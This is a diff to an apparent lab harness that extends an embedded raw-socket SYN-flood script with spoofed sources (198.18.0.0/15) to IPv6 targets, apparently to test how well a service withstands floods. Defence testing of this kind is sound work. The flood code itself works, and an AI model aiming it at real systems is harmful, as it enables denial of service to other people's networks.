@@ -33,29 +33,39 @@ QUEUE = 7
 FLOOD_NET = "198.18.0.0/15"   # spoofed sources: the lab's unwelcome range, owned by nobody
 GOAL = 0.95
 
-# argv: VIP, port, seconds. Prints {"sent": N, "seconds": S}.
+# argv: VIP, port, seconds[, NET]: spoofed sources of NET (default FLOOD_NET; an IPv6
+# VIP takes an IPv6 NET, its SYNs built with their IPv6 header). Prints {"sent": N,
+# "seconds": S}.
 FLOODER = r'''
 import ipaddress, json, random, socket, struct, sys, time
 vip, port, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
-net = ipaddress.ip_network("198.18.0.0/15")
+net = ipaddress.ip_network(sys.argv[4] if len(sys.argv) > 4 else "198.18.0.0/15")
 dst = int(ipaddress.ip_address(vip))
-def fold(words):
-    s = sum(words)
+six = net.version == 6
+def fold(data):
+    s = sum(struct.unpack(f"!{len(data) // 2}H", data))
     while s >> 16:
         s = (s & 0xFFFF) + (s >> 16)
     return s
 def syn(src, sport, seq):
     tcp = struct.pack("!HHIIBBHHH", sport, port, seq, 0, 5 << 4, 0x02, 64240, 0, 0)
-    pseudo = struct.pack("!IIBBH", src, dst, 0, 6, 20) + tcp
-    tcp = tcp[:16] + struct.pack("!H", fold(struct.unpack("!16H", pseudo)) ^ 0xFFFF) + tcp[18:]
+    if six:
+        addrs = src.to_bytes(16, "big") + dst.to_bytes(16, "big")
+        pseudo = addrs + struct.pack("!IxxxB", 20, 6)
+    else:
+        pseudo = struct.pack("!IIBBH", src, dst, 0, 6, 20)
+    tcp = tcp[:16] + struct.pack("!H", fold(pseudo + tcp) ^ 0xFFFF) + tcp[18:]
+    if six:
+        return struct.pack("!IHBB", 6 << 28, 20, 6, 64) + addrs + tcp
     ip = struct.pack("!BBHHHBBHII", 0x45, 0, 40, 0, 0, 64, 6, 0, src, dst)
-    ip = ip[:10] + struct.pack("!H", fold(struct.unpack("!10H", ip)) ^ 0xFFFF) + ip[12:]
+    ip = ip[:10] + struct.pack("!H", fold(ip) ^ 0xFFFF) + ip[12:]
     return ip + tcp
 base, size = int(net.network_address), net.num_addresses
 rng = random.Random(15)
 packets = [syn(base + rng.randrange(2, size - 1), rng.randrange(1024, 65536),
                rng.getrandbits(32)) for _ in range(65536)]
-sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+sock = socket.socket(socket.AF_INET6 if six else socket.AF_INET, socket.SOCK_RAW,
+                     socket.IPPROTO_RAW)
 sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
 target = (vip, 0)
 send = sock.sendto
